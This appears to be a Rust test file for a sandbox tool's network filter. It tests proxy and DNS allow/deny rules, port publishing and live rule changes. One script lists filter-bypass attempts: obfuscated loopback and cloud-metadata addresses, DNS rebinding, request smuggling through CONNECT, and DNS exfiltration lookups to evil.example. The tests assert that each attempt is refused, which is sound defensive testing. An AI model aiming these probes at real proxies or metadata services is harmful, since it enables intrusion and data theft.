@@ -1,0 +1,353 @@
+//! Boxes connect to nothing, or to hosts that are named; and ports of theirs are published.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::sync::LazyLock;
+
+use crate::page::{self, assert_page, blocks};
+use crate::scenario::{Scenario, Step, as_user, bake, hello_checkout, sleeping, tools};
+
+/// The page for users, which has the declaration of a box, too.
+const PAGE: &str = include_str!("../../docs/network.md");
+/// The names and servers of the tests, while something runs.
+const PEERS: [&str; 2] = [
+    "ifconfig lo 127.0.0.1 up; ifconfig lo:1 93.184.216.34 netmask 255.255.255.255; echo nameserver 127.0.0.1 >/etc/resolv.conf; mkdir -p /tmp/www; echo outside >/tmp/www/index.html
+peers /tmp/www >/tmp/peers.log & peers=$!; trap 'kill $peers' EXIT; until grep -q ready /tmp/peers.log; do sleep 0.1; done",
+    "echo; sort /tmp/peers.log | uniq -c | grep -E 'host|asked' | tr -s ' '",
+];
+const RULES: &str = r#"
+network "filtered" {
+    allow "*.test.example" "127.0.0.2"
+    deny "no.test.example"
+}
+"#;
+/// The business component can be attacked with programs of its own.
+const TOOLED: &str = "business {\n    file \"peers\" to=\"/peers\" mode=\"0755\"\n";
+
+/// Clients that know of a proxy, and those that do not.
+const CLIENTS: &str = r#"
+boxlaunch run -q -d --name net /filtered; inside() { boxlaunch exec --in "$@"; }
+for component in agent business; do inside $component net -- sh -c '
+env | grep -c -i _proxy=http://198; grep nameserver /etc/resolv.conf; ls /sys/class/net
+wget -qO- http://a.test.example/; unset http_proxy HTTP_PROXY; wget -qO- http://b.test.example/
+nslookup c.test.example | grep -A1 Name; nslookup -type=aaaa c.test.example | grep -c "has AAAA"; nslookup no.test.example | tail -n 2 | head -n 1; wget -qO- http://no.test.example/' 2>&1; done
+inside business net -- sh -c 'wget -qO- http://d.test.example/bytes/3000000 | wc -c; echo "post body" | wget -qO- --post-file=- http://d.test.example/echo
+{ printf "GET http://evil.example/x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"; sleep 0.5; } | nc 198.19.0.1 3128 | tr -d "\r" | grep -v date
+{ printf "CONNECT a.test.example:8080 HTTP/1.1\r\nHost: a.test.example:8080\r\n\r\n"; sleep 0.5; } | nc 198.19.0.1 3128 | head -n 1
+{ printf "\005\001\000\005\001\000\003\016a.test.example\000\120GET /index.html HTTP/1.0\r\nHost: a\r\n\r\n"; sleep 0.5; } | nc 198.19.0.1 1080 | tail -n 1
+for address in 127.0.0.2:80 198.18.7.7:80 8.8.8.8:53 192.168.0.1:80; do nc -w 1 ${address%:*} ${address#*:} </dev/null 2>&1 || echo "no $address"; done'
+boxlaunch network net; boxlaunch stop net; boxlaunch run --rm /filtered -- wget -qO- http://evil.example/ 2>&1 | grep -E 'component|wget'
+"#;
+/// Attempts to get past the filter. Each names what it wants.
+const EVIL: &str = r#"
+boxlaunch run -q -d --name evil /filtered; supervisor=$(boxlaunch inspect --json evil | sed 's/.*"supervisor":\([0-9]*\),.*/\1/')
+boxlaunch exec evil -- sh -c '
+ask() { { echo -ne "$1"; sleep 0.5; } | nc -w 9 198.19.0.1 3128; }
+for target in 127.0.0.1:80 127.1:80 2130706433:80 0x7f000001:80 0177.0.0.1:80 0:80 [::1]:80 [::ffff:127.0.0.1]:80 [::ffff:7f00:1]:80 [fe80::1%25lo]:80 localhost:80 169.254.169.254:80 10.0.2.2:80 \
+inside.test.example:80 public.test.example:80 metadata.test.example:80 rebind.test.example:80 rebind.test.example:80 no.test.example:80 NO.test.example.:80 test.example:80 a.test.example.evil.example:80 a.test.example:22 a.test.example@127.0.0.1:80 evil.example:80; do
+ask "CONNECT $target HTTP/1.1\r\nHost: $target\r\nConnection: close\r\n\r\n" | head -n 1 | cut -d" " -f2 | tr "\n" " "; echo "$target"; done
+echo; for url in http://127.0.0.1/ http://127.1/ http://inside.test.example/ http://a.test.example/to/127.0.0.1/ http://mixed.test.example/; do wget -qO- $url 2>&1 | tail -n 1; done
+ask "GET http://a.test.example/ HTTP/1.1\r\nHost: inside.test.example\r\nConnection: close\r\n\r\n" | head -n 1
+ask "CONNECT a.test.example:443 HTTP/1.1\r\nHost: a.test.example:443\r\n\r\nGET / HTTP/1.1\r\nHost: inside.test.example\r\n\r\n" | tr -d "\r" | grep -v "^$"
+i=0; while [ $i -lt 40 ]; do i=$((i+1)); nslookup data$i.evil.example >/dev/null; done; /peers --attempts 1000 198.19.0.1:3128
+wget -qO- http://a.test.example/' 2>&1
+awk '/VmHWM/ { print ($2 < 65536) ? "below 64 MiB" : $2 }' /proc/$supervisor/status; ls -l /proc/$supervisor/fd | wc -l | awk '{ print ($1 < 60) ? "few files" : $1 }'
+du -m $BOXLAUNCH_STATE/boxes/evil | awk '{ print ($1 < 10) ? "a log with a bound" : $1 }'; boxlaunch stop evil
+"#;
+/// Rules that change while a connection is open, and events.
+const CHANGES: &str = r#"
+boxlaunch run -q -d --name live /filtered
+boxlaunch exec live -- sh -c '{ printf "CONNECT a.test.example:80 HTTP/1.1\r\nHost: a.test.example:80\r\n\r\n"; sleep 30; } | { nc 198.19.0.1 3128 >/tmp/tunnel; echo it has ended >>/tmp/tunnel; }' & tunnel=$!; sleep 1
+boxlaunch exec live -- sh -c 'tr -d "\r" </tmp/tunnel'
+boxlaunch network live deny a.test.example 2>&1 | head -n 5; sleep 1; boxlaunch exec live -- tail -n 1 /tmp/tunnel
+boxlaunch exec live -- sh -c 'wget -qO- http://a.test.example/; wget -qO- http://b.test.example/' 2>&1
+boxlaunch network live reload /filtered >/dev/null; boxlaunch exec live -- wget -qO- http://a.test.example/
+boxlaunch network live allow other.example:8080 | grep other; boxlaunch network live allow localhost 2>&1 | head -n 1; boxlaunch network live reload /closed 2>&1 | head -n 3
+(timeout 2 boxlaunch events --since 60s | cut -d' ' -f2- | grep connection | sed 's/[0-9]* bytes/N bytes/; s/[0-9]* received/N received/')
+boxlaunch kill live; boxlaunch network live allow c.example 2>&1 | head -n 1
+boxlaunch run -q -d --name none /closed; boxlaunch network none; boxlaunch network none allow a.example 2>&1; boxlaunch kill none; wait $tunnel
+"#;
+/// Ports of a box without any network, and of one with a filter.
+const PORTS: &str = r#"
+boxlaunch run -q -d --name closed -p 8080:8000/business -p 127.0.0.3:8081:9 /closed; boxlaunch port closed | grep -v sock
+boxlaunch exec closed -- sh -c 'mkdir /tmp/h; echo inside >/tmp/h/index.html; httpd -p 127.0.0.1:8000 -h /tmp/h; ls /sys/class/net; wget -qO- http://127.0.0.1:8000/; wget -qO- http://a.test.example/ 2>&1; nc -w 1 127.0.0.2 80 </dev/null || echo none; ip route'
+wget -qO- http://127.0.0.1:8080/; wget -qO- http://127.0.0.1:8080/index.html; wget -qO- http://127.0.0.3:8081/ 2>&1
+boxlaunch exec closed -- sh -c 'head -c 4000000 /dev/zero >/tmp/h/large'; wget -qO- http://127.0.0.1:8080/large | wc -c; wget -qO- http://127.0.0.2:8080/ 2>&1
+boxlaunch run -q -p 8080:80 /closed -- true; boxlaunch stop closed; boxlaunch run -q -p 80:8000 /closed -- true; echo $?
+boxlaunch run -q -d --name both -p 0:8000/business /filtered; port=$(boxlaunch port both | grep business | sed 's/.*://')
+boxlaunch exec both -- sh -c 'mkdir /tmp/h; echo both >/tmp/h/index.html; httpd -p 127.0.0.1:8000 -h /tmp/h'; wget -qO- http://127.0.0.1:$port/; boxlaunch exec both -- wget -qO- http://a.test.example/; boxlaunch stop both
+boxlaunch run -q -p 80 /closed 2>&1 | head -n 2
+"#;
+/// Components that have networks of their own.
+const APART: &str = r#"
+boxlaunch run -q -d --name apart -p 8080:8000/business /apart
+for component in agent business; do boxlaunch exec --in $component apart -- sh -c 'wget -qO- http://a.test.example/; nc -w 1 198.18.0.1 3128 </dev/null && echo agents; nc -w 1 198.19.0.1 3128 </dev/null && echo business' 2>&1 | grep -v nc:; done
+boxlaunch exec --in business apart -- sh -c 'mkdir /tmp/h; echo apart >/tmp/h/index.html; httpd -p 127.0.0.1:8000 -h /tmp/h'; wget -qO- http://127.0.0.1:8080/; boxlaunch stop apart
+"#;
+
+static STEPS: LazyLock<BTreeMap<String, Step>> = LazyLock::new(|| {
+    let tools = tools();
+    let dir = tempfile::tempdir().unwrap();
+    let at = |name: &str| dir.path().join(name);
+    hello_checkout(dir.path());
+    fs::copy(&tools.programs.peers, at("peers")).unwrap();
+    let filtered = sleeping("filtered").replace("business {\n", TOOLED) + RULES;
+    let apart = sleeping("apart").replace("limits", "namespaces net=#true\n    limits") + RULES;
+    let mut host = tools.host.clone().file(&tools.programs.peers, "/bin/peers");
+    // The servers of the tests are at an address that has to be named.
+    let page = sleeping("work") + &blocks(PAGE, "kdl").join("\n") + "\n";
+    let page = page.replace("    deny \"up", "    allow \"127.0.0.2\"\n    deny \"up");
+    let boxes =
+        [("filtered", filtered), ("closed", sleeping("closed")), ("apart", apart), ("page", page)];
+    for (name, text) in boxes {
+        fs::write(at("Boxfile"), text).unwrap();
+        bake(&at("Boxfile"), &tools.programs.box_init, &at(name));
+        host = host.file(at(name), format!("/{name}"));
+    }
+    let [before, after] = PEERS;
+    let with_peers = |script: &str| format!("{before}\n{script}\n{after}");
+    let in_directory = |name: &str, script: &str| {
+        let own =
+            format!("mkdir /tmp/{name}; cd /tmp/{name}; export BOXLAUNCH_STATE=/tmp/{name}/state");
+        with_peers(&format!("{own}\n{script}"))
+    };
+    Scenario::default()
+        .script(30, "root", &in_directory("root", CLIENTS))
+        .script(30, "user", &with_peers(&as_user(CLIENTS)))
+        .script(120, "evil", &in_directory("evil", EVIL))
+        .script(60, "changes", &in_directory("changes", CHANGES))
+        .script(60, "ports", &in_directory("ports", PORTS))
+        .script(30, "page", &with_peers(&page::script(PAGE, "ln -s /page work.box")))
+        .script(30, "apart", &in_directory("apart", APART))
+        .start(&host)
+});
+
+#[test]
+fn the_page_shows_what_happens() {
+    let mut step = STEPS["page"].clone();
+    // What comes after it is the servers' log.
+    step.stdout.truncate(step.stdout.rfind("\n\n").unwrap_or_default() + 1);
+    assert_page(PAGE, &step);
+}
+
+#[test]
+fn clients_reach_what_is_allowed_whether_they_know_of_a_proxy_or_not() {
+    insta::assert_snapshot!(STEPS["root"].stdout, @r#"
+    net
+    6
+    nameserver 198.18.0.1
+    lo
+    outside
+    outside
+    Name:	c.test.example
+    Address: 198.18.0.3
+    0
+    ** server can't find no.test.example: REFUSED
+    wget: bad address 'no.test.example'
+    6
+    nameserver 198.19.0.1
+    lo
+    outside
+    outside
+    Name:	c.test.example
+    Address: 198.19.0.3
+    0
+    ** server can't find no.test.example: REFUSED
+    wget: bad address 'no.test.example'
+    3000000
+    post body
+    HTTP/1.1 403 Forbidden
+    content-type: text/plain; charset=utf-8
+    connection: close
+    content-length: 141
+
+    The box cannot connect to evil.example:80: it is not allowed.
+    To allow it, its user adds to the network of its Boxfile: allow "evil.example"
+    HTTP/1.1 403 Forbidden
+    outside
+    nc: can't connect to remote host (127.0.0.2): Connection refused
+    no 127.0.0.2:80
+    nc: can't connect to remote host (198.18.7.7): Connection refused
+    no 198.18.7.7:80
+    nc: can't connect to remote host (8.8.8.8): Network is unreachable
+    no 8.8.8.8:53
+    nc: can't connect to remote host (192.168.0.1): Network is unreachable
+    no 192.168.0.1:80
+    network "filtered" {
+        allow "*.test.example"
+        allow "127.0.0.2"
+        deny "no.test.example"
+    }
+    at most 128 connections at once, 64.0 MiB in a second, 300 names in a minute
+    denied:
+        no.test.example: the rules deny no.test.example, 8 times
+        evil.example:80: it is not allowed; to allow it: allow "evil.example"
+        a.test.example:8080: it is allowed, but not its port 8080; to allow it: allow "a.test.example" port=8080
+    net
+    boxlaunch: the business component: evil.example:80 denied: it is not allowed; to allow it: allow "evil.example"
+    wget: server returned error: HTTP/1.1 403 Forbidden
+
+     2 127.0.0.2:80 GET / HTTP/1.1 host a.test.example
+     2 127.0.0.2:80 GET / HTTP/1.1 host b.test.example
+     1 127.0.0.2:80 GET /bytes/3000000 HTTP/1.1 host d.test.example
+     1 127.0.0.2:80 GET /echo HTTP/1.1 host d.test.example
+     1 127.0.0.2:80 GET /index.html HTTP/1.0 host a
+     3 asked for a.test.example
+     2 asked for b.test.example
+     2 asked for d.test.example
+    "#);
+}
+
+#[test]
+fn an_ordinary_user_has_the_same() {
+    assert_eq!(STEPS["user"].stdout, STEPS["root"].stdout, "{:?}", STEPS["user"]);
+}
+
+#[test]
+fn nothing_gets_past_the_filter() {
+    let evil = &STEPS["evil"].stdout;
+    for own in [" 127.0.0.1:80 GET", " 127.0.0.1:443 GET", " 93.184.216.34:80 GET"] {
+        assert!(!evil.contains(own), "the host's own server was reached: {evil}");
+    }
+    insta::assert_snapshot!(evil, @"
+    evil
+    403 127.0.0.1:80
+    400 127.1:80
+    400 2130706433:80
+    400 0x7f000001:80
+    400 0177.0.0.1:80
+    400 0:80
+    403 [::1]:80
+    403 [::ffff:127.0.0.1]:80
+    403 [::ffff:7f00:1]:80
+    400 [fe80::1%25lo]:80
+    403 localhost:80
+    403 169.254.169.254:80
+    403 10.0.2.2:80
+    403 inside.test.example:80
+    403 public.test.example:80
+    403 metadata.test.example:80
+    200 rebind.test.example:80
+    403 rebind.test.example:80
+    403 no.test.example:80
+    403 NO.test.example.:80
+    403 test.example:80
+    403 a.test.example.evil.example:80
+    403 a.test.example:22
+    400 a.test.example@127.0.0.1:80
+    403 evil.example:80
+
+    wget: server returned error: HTTP/1.1 403 Forbidden
+    wget: server returned error: HTTP/1.1 400 Bad Request
+    wget: server returned error: HTTP/1.1 403 Forbidden
+    wget: server returned error: HTTP/1.1 403 Forbidden
+    outside
+    HTTP/1.1 400 Bad Request
+    HTTP/1.1 200 OK
+    denied 1000
+    outside
+    below 64 MiB
+    few files
+    a log with a bound
+    evil
+
+     1 127.0.0.2:80 GET / HTTP/1.1 host a.test.example
+     1 127.0.0.2:80 GET / HTTP/1.1 host mixed.test.example
+     1 127.0.0.2:80 GET /to/127.0.0.1/ HTTP/1.1 host a.test.example
+     3 asked for a.test.example
+     2 asked for inside.test.example
+     1 asked for metadata.test.example
+     1 asked for mixed.test.example
+     1 asked for public.test.example
+     2 asked for rebind.test.example
+    ");
+}
+
+#[test]
+fn rules_change_while_a_box_runs() {
+    insta::assert_snapshot!(STEPS["changes"].stdout, @r#"
+    live
+    HTTP/1.1 200 OK
+
+    network "filtered" {
+        allow "*.test.example"
+        allow "127.0.0.2"
+        deny "a.test.example"
+        deny "no.test.example"
+    it has ended
+    wget: server returned error: HTTP/1.1 403 Forbidden
+    outside
+    outside
+        allow "other.example" port=8080
+    error: invalid value 'localhost' for '<PEER>...': write a domain, all below one, an address or a network, and :PORT after it where that is neither 80 nor 443
+    network "filtered" {
+    }
+    at most 128 connections at once, 64.0 MiB in a second, 300 names in a minute
+    connection live business a.test.example:80 denied: the rules deny a.test.example
+    connection live business a.test.example:80 denied: the rules deny a.test.example
+    connection live business b.test.example:80 allowed, N bytes sent, N received
+    connection live business a.test.example:80 allowed, N bytes sent, N received
+    live
+    error: the box live is not running
+    none
+    network "none"
+    error: the box's supervisor cannot change its rules: its network is "none", which has no rules
+    none
+
+     1 127.0.0.2:80 GET / HTTP/1.1 host a.test.example
+     1 127.0.0.2:80 GET / HTTP/1.1 host b.test.example
+     2 asked for a.test.example
+     1 asked for b.test.example
+    "#);
+}
+
+#[test]
+fn ports_are_published_in_every_mode_and_a_box_without_a_network_has_no_device() {
+    insta::assert_snapshot!(format!("{}\n{}", STEPS["ports"].stdout, STEPS["ports"].stderr), @"
+    closed
+    8000/tcp of business -> 127.0.0.1:8080
+    9/tcp of agent -> 127.0.0.3:8081
+    lo
+    inside
+    wget: bad address 'a.test.example'
+    none
+    inside
+    inside
+    wget: error getting response
+    4000000
+    wget: can't connect to remote host (127.0.0.2): Connection refused
+    closed
+    1
+    both
+    both
+    outside
+    both
+    error: invalid value '80' for '--publish <[ADDRESS:]HOST:GUEST[/COMPONENT]>': write HOST_PORT:GUEST_PORT, or ADDRESS:HOST_PORT:GUEST_PORT, and /business after it for a port of the business component
+
+
+     1 127.0.0.2:80 GET / HTTP/1.1 host a.test.example
+     1 asked for a.test.example
+
+    nc: can't connect to remote host (127.0.0.2): Connection refused
+    error: cannot publish a port at 127.0.0.1:8080: Address in use (os error 98)
+      = help: another program has it: publish at another port, or at 0, for a free one that `boxlaunch port` shows
+    error: cannot publish a port at 127.0.0.1:80: Address in use (os error 98)
+      = help: another program has it: publish at another port, or at 0, for a free one that `boxlaunch port` shows
+    ");
+}
+
+#[test]
+fn components_with_networks_of_their_own_have_filters_of_their_own() {
+    insta::assert_snapshot!(STEPS["apart"].stdout, @"
+    apart
+    outside
+    agents
+    outside
+    business
+    apart
+    apart
+
+     2 127.0.0.2:80 GET / HTTP/1.1 host a.test.example
+     2 asked for a.test.example
+    ");
+}
